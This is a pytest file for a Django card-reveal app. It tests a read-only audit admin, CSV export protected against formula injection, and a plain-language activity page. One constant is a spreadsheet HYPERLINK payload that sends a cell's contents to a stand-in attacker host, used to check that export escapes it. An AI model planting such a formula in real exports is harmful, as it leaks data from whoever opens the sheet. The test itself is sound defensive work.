"""The audit trail in the admin (read-only, filters, CSV export safe from formula injection, the
export audited) and on the cardholder's activity page (own events only, in plain words)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from cardreveal.audit.export import csv_safe
from cardreveal.audit.models import AuthEvent, RevealEvent
from tests.audit.conftest import web_reveal
from tests.conftest import sign_in, totp_code

FORMULA_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (None, ""),
        (42, "42"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(value, cell):
    assert csv_safe(value) == cell


def export(admin_client, model: str, ids: list[int]):
    return admin_client.post(
        f"/admin/audit/{model}/",
        {"action": "export_csv", "_selected_action": [str(i) for i in ids]},
    )


def test_reveal_events_export_as_csv_without_formulas_and_the_export_is_audited(
    admin_client, staff, alice, card, clock, client_key
):
    browser = Client()
    sign_in(browser, alice, clock)
    web_reveal(browser, card, alice, clock, client_key, user_agent=FORMULA_UA)
    event = RevealEvent.objects.get()
    response = export(admin_client, "revealevent", [event.pk])
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment;" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    row = rows[0]
    assert row["user_agent"] == "'" + FORMULA_UA
    assert (row["reason"], row["hash"], row["seq"]) == ("ok", event.hash, "1")
    assert row["card_id"] == str(card.pk)
    exported = AuthEvent.objects.get(event=AuthEvent.Event.AUDIT_EXPORTED)
    assert (exported.user, exported.resource, exported.detail) == (
        staff[0],
        "audit.revealevent",
        "1 records",
    )


def test_account_events_export_too(admin_client, staff):
    ids = list(AuthEvent.objects.values_list("pk", flat=True))
    assert ids  # the admin's own sign-in
    response = export(admin_client, "authevent", ids)
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {r["event"] for r in rows} >= {"login"}


def test_the_audit_admin_is_read_only_with_filters(admin_client, alice, card, clock, client_key):
    browser = Client()
    sign_in(browser, alice, clock)
    web_reveal(browser, card, alice, clock, client_key)
    event = AuthEvent.objects.filter(user=alice.user).first()
    for path in ("/admin/audit/revealevent/", "/admin/audit/authevent/"):
        listing = admin_client.get(path).content.decode()
        assert "By outcome" in listing
        assert "Export selected records as CSV" in listing
        assert "delete_selected" not in listing
        assert admin_client.get(path + "add/").status_code == 403
    filtered = admin_client.get("/admin/audit/authevent/?event__exact=login").content.decode()
    assert "Signed in" in filtered
    admin_client.post(f"/admin/audit/authevent/{event.pk}/delete/", {"post": "yes"})
    assert AuthEvent.objects.filter(pk=event.pk).exists()
    change = admin_client.get(f"/admin/audit/authevent/{event.pk}/change/").content.decode()
    assert 'name="reason"' not in change


# ---------------------------------------------------------------------------------- activity


def test_activity_lists_own_reveals_and_sign_ins_in_plain_words(
    signed_in, alice, bob, card, make_card, clock, client_key
):
    web_reveal(signed_in, card, alice, clock, client_key)
    wrong = f"{(int(totp_code(alice.device, clock)) + 1) % 1_000_000:06d}"
    signed_in.post(
        f"/cards/{card.pk}/reveal", {"otp_code": wrong, "public_key": client_key.public_b64}
    )
    Client().post("/accounts/login/", {"username": "alice", "password": "wrong-password"})
    bobs = make_card(bob.user, label="Bobs secret card")
    bob_browser = Client()
    sign_in(bob_browser, bob, clock)
    web_reveal(bob_browser, bobs, bob, clock, client_key)

    body = signed_in.get("/activity/").content.decode()
    assert "Security code shown" in body
    assert "Not shown: Wrong code" in body
    assert "Sign-in failed" in body
    assert "Wrong password" in body
    assert "Signed in" in body
    assert "Everyday •••• 0001" in body
    for raw in ("otp_invalid", "bad_credentials", "revealed"):
        assert raw not in body
    assert "Bobs secret card" not in body


def test_activity_says_when_a_reveal_failed_on_our_side_or_its_outcome_was_never_written(
    signed_in, alice, card, clock, client_key, monkeypatch
):
    import cardreveal.cards.services as services
    from cardreveal.client_info import ClientInfo

    def broken(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr(services, "seal", broken)
    web_reveal(signed_in, card, alice, clock, client_key)  # a fault after the bank answered
    services.reveal_event_open(
        user=alice.user,
        client=ClientInfo(ip=None, user_agent="", request_id="", channel="web"),
        card=card,
        requested_card_id=str(card.pk),
        provider_kind="mastercard",
    )  # as a crash during the provider call leaves it
    body = signed_in.get("/activity/").content.decode()
    assert "Not shown: A fault on our side" in body
    assert "Outcome not recorded (the bank was asked" in body
    assert "internal_error" not in body


def test_activity_newest_first(signed_in, alice, card, clock, client_key):
    web_reveal(signed_in, card, alice, clock, client_key)
    body = signed_in.get("/activity/").content.decode()
    assert body.index("Security code shown") < body.index("Signed in")


def test_admin_work_stays_off_the_activity_page(admin_client, card):
    """Admin changes and exports are in the audit trail, not on the admin's own activity page."""
    admin_client.post(
        "/admin/cards/card/", {"action": "disable_reveals", "_selected_action": [str(card.pk)]}
    )
    assert AuthEvent.objects.filter(event=AuthEvent.Event.ADMIN_CHANGE).exists()
    body = admin_client.get("/activity/").content.decode()
    assert "Signed in" in body
    assert "Admin change" not in body
